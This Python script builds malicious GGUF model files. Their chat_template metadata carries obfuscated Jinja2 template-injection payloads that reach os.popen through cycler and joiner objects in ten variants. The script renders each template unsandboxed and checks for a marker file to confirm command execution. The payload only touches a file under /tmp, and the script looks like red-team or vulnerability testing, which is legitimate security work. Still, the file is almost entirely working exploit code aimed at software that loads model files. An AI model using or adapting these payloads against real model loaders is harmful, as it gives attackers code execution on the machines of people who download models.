import struct, jinja2, os
def gguf(tmpl):
    def s(b): return struct.pack('<Q', len(b)) + b
    kv = [(b'general.architecture', b'llama'), (b'tokenizer.chat_template', tmpl.encode())]
    out = b'GGUF' + struct.pack('<IQQ', 3, 0, len(kv))
    for k, v in kv: out += s(k) + struct.pack('<I', 8) + s(v)
    return out
PRE = ("{% set u = '_' %}{% set uu = u ~ u %}{% set ki = uu ~ 'init' ~ uu %}{% set kg = uu ~ 'glo' ~ 'bals' ~ uu %}"
       "{% set ko = 'o' ~ 's' %}{% set kp = 'po' ~ 'pen' %}")
def chain(x, tag): return x + "[ki][kg][ko][kp]('touch /tmp/rt19/pwned_" + tag + "')"
T = {
 'g_direct': lambda t: PRE + "{{ " + chain("cycler(1)", t) + " }}",
 'g_for': lambda t: PRE + "{% for c in [cycler(1)] %}{{ " + chain("c", t) + " }}{% endfor %}",
 'g_with': lambda t: PRE + "{% with c = cycler(1) %}{{ " + chain("c", t) + " }}{% endwith %}",
 'g_setalias': lambda t: PRE + "{% set c = cycler(1) %}{% set d = c %}{{ " + chain("d", t) + " }}",
 'g_list': lambda t: PRE + "{% set c = [cycler(1)] %}{{ " + chain("c[0]", t) + " }}",
 'g_ns': lambda t: PRE + "{% set ns = namespace(c=cycler(1)) %}{{ " + chain("ns.c", t) + " }}",
 'g_macro': lambda t: PRE + "{% macro m(c) %}{{ " + chain("c", t) + " }}{% endmacro %}{{ m(cycler(1)) }}",
 'g_tuple': lambda t: PRE + "{% set a, c = 1, cycler(1) %}{{ " + chain("c", t) + " }}",
 'g_paren': lambda t: PRE + "{% set c = (cycler(1)) %}{{ " + chain("c", t) + " }}",
 'g_joiner_attr': lambda t: PRE + "{% set j = joiner() %}{% set c = j %}{{ " + chain("c", t) + " }}",
}
for k, f in T.items():
    t = f(k)
    open(k + '.gguf', 'wb').write(gguf(t))
    try:
        jinja2.Environment().from_string(t).render(messages=[])
    except Exception as e: print(k, 'render error', e)
    print(k, 'PWNED' if os.path.exists('/tmp/rt19/pwned_' + k) else 'no')
